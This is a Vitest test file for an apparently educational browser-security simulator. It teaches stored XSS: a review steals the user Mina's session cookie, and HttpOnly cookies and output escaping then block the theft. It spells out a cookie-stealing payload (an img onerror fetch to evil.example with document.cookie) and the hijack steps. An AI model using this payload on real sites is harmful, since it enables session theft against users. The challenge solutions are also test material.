/** XSS by hand: the stored review steals Mina's session; HttpOnly and escaping stop it. */
import { describe, expect, it } from 'vitest';
import { isAction } from '../../sim/actions';
import { cookiesInAddress } from '../../sim/browser/page-scripts';
import { type World } from '../../sim/world';
import { CHALLENGES } from '../activities';
import { CHROME, get, MINA, post } from '../model';
import { ATTACKER, PAYLOAD, sessionCookie } from './xss/steps';
import { run, worldAfter } from '../replay-for-tests';

const byId = (id: string) => CHALLENGES.find((c) => c.id === id)!;
const jarOf = (w: World, id: string) => w.visitors.find((v) => v.id === id)!;
const sessionValue = (w: World, id: string) =>
  jarOf(w, id).cookies.find((c) => c.name === 'connect.sid')?.value;
const lastPage = (w: World) => JSON.parse(w.exchanges.at(-1)!.response.body);

describe('XSS by hand', () => {
  it('writes reviews into the page as typed, and evil.example hears from the browsers that render them', async () => {
    const start = await worldAfter('xss-reviews');
    expect(jarOf(start, ATTACKER).browser).toBe('Firefox');
    expect(lastPage(start).reviews.at(-1).html).toBe('★★★★★ <b>5/5</b>');
    expect(start.evilLog ?? []).toEqual([]);
    const planted = await worldAfter('xss-payload');
    expect(lastPage(planted).reviews.at(-1).html).toBe(PAYLOAD);
    // The attacker's own browser renders the page first: it sends its own cookie.
    expect(planted.evilLog?.map((r) => r.visitorId)).toEqual([ATTACKER]);
  });

  it('sends Mina’s session cookie to evil.example when she opens the page, and the thief becomes her', async () => {
    const before = await worldAfter('xss-payload');
    const world = await worldAfter('xss-victim');
    const [received] = world.evilLog!.slice(before.evilLog!.length);
    expect(received!.visitorId).toBe(CHROME);
    expect(new URL(received!.url).host).toBe('evil.example');
    expect(cookiesInAddress(received!.url)).toContainEqual({
      name: 'connect.sid',
      value: sessionValue(world, CHROME),
    });
    // The shop's own traffic is the review page only: the theft is not a shop exchange.
    expect(world.exchanges.length).toBe(before.exchanges.length + 1);
    const hijack = await worldAfter('xss-hijack');
    expect(lastPage(hijack)).toMatchObject({ page: 'me', user: { id: 152 } });
  });

  it('with HttpOnly the script still runs but the session cookie stays home; escaped, nothing runs', async () => {
    const before = await worldAfter('xss-hijack');
    const httpOnly = await worldAfter('xss-httponly');
    const received = httpOnly.evilLog!.slice(before.evilLog!.length);
    expect(received.map((r) => r.visitorId)).toEqual([CHROME]);
    expect(cookiesInAddress(received[0]!.url).map((c) => c.name)).not.toContain('connect.sid');
    const escaped = await worldAfter('xss-escape');
    expect(escaped.evilLog).toHaveLength(httpOnly.evilLog!.length);
    expect(lastPage(escaped).reviews.at(-1).html).toBe(
      '&lt;img src=x onerror=&quot;fetch(&#39;https://evil.example/?c=&#39;+document.cookie)&quot;&gt;',
    );
  });

  it('an existing session keeps the cookie it was set with: turning HttpOnly on needs a new login', async () => {
    const start = await worldAfter('xss-hijack');
    const world = await run(start, [sessionCookie(true), get('/reviews')]);
    const last = world.evilLog!.at(-1)!;
    expect(last.visitorId).toBe(CHROME);
    expect(cookiesInAddress(last.url).map((c) => c.name)).toContain('connect.sid');
    const c = byId('xss-httponly-stops-theft');
    expect(c.goal(world, start)).toBe(false);
    expect(c.nudge!(world, start)).toBe('old-cookie');
  });

  it('xss-steal-session: the challenge is solved only with the cookie evil.example received from Mina', async () => {
    const c = byId('xss-steal-session');
    const start = await run(await worldAfter(c.after), c.setup);
    // Using the thief's own stolen cookie opens no one's page.
    const own = await run(start, [
      post('/reviews', { review: PAYLOAD }, ATTACKER),
      get('/me', ATTACKER),
    ]);
    expect(c.goal(own, start)).toBe(false);
    expect(c.nudge!(own, start)).toBe('own-cookie');
    const planted = await run(start, [post('/reviews', { review: PAYLOAD }, ATTACKER)]);
    expect(c.nudge!(planted, start)).toBe('wait-for-mina');
    // The cookie taken from evil.example's log, typed into the thief's jar.
    const read = await run(planted, [get('/reviews')]);
    const stolen = cookiesInAddress(read.evilLog!.at(-1)!.url).find(
      (x) => x.name === 'connect.sid',
    )!;
    const solved = await run(read, [
      { type: 'add-cookie', visitorId: ATTACKER, name: stolen.name, value: stolen.value },
      get('/me', ATTACKER),
    ]);
    expect(c.goal(solved, start)).toBe(true);
    expect(c.goal(await run(start, c.solution), start)).toBe(true);
  });

  it('xss-httponly-stops-theft: escaping does not count, HttpOnly and a new login do', async () => {
    const c = byId('xss-httponly-stops-theft');
    const start = await run(await worldAfter(c.after), c.setup);
    const escaped = await run(start, [
      { type: 'set-app', app: { escapeOutput: true } },
      get('/reviews'),
    ]);
    expect(c.goal(escaped, start)).toBe(false);
    expect(c.nudge!(escaped, start)).toBe('code-changed');
    const solved = await run(start, [sessionCookie(true), post('/login', MINA), get('/reviews')]);
    expect(c.goal(solved, start)).toBe(true);
  });

  it('xss-escape-output: HttpOnly alone leaves the review running', async () => {
    const c = byId('xss-escape-output');
    const start = await run(await worldAfter(c.after), c.setup);
    const httpOnly = await run(start, [sessionCookie(true), post('/login', MINA), get('/reviews')]);
    expect(c.goal(httpOnly, start)).toBe(false);
    expect(c.nudge!(httpOnly, start)).toBe('still-runs');
    expect(c.goal(await run(start, c.solution), start)).toBe(true);
  });

  it('a sandbox link may carry the review page’s escaping and a posted review, checked like any action', () => {
    expect(isAction({ type: 'set-app', app: { escapeOutput: false } })).toBe(true);
    expect(isAction({ type: 'set-app', app: { escapeOutput: 'no' } })).toBe(false);
    expect(isAction(post('/reviews', { review: PAYLOAD }, ATTACKER))).toBe(true);
    expect(isAction(post('/reviews', { review: 'x'.repeat(5000) }, ATTACKER))).toBe(false);
  });

  it('a shop deployed anew on another stack starts with no reviews, so the next chapter has none', async () => {
    const end = await worldAfter('xss-escape');
    expect(end.server.reviews?.length).toBe(2);
    const next = await run(end, [{ type: 'set-engine', engine: 'express-session' }]);
    expect(next.server.reviews).toBeUndefined();
  });
});
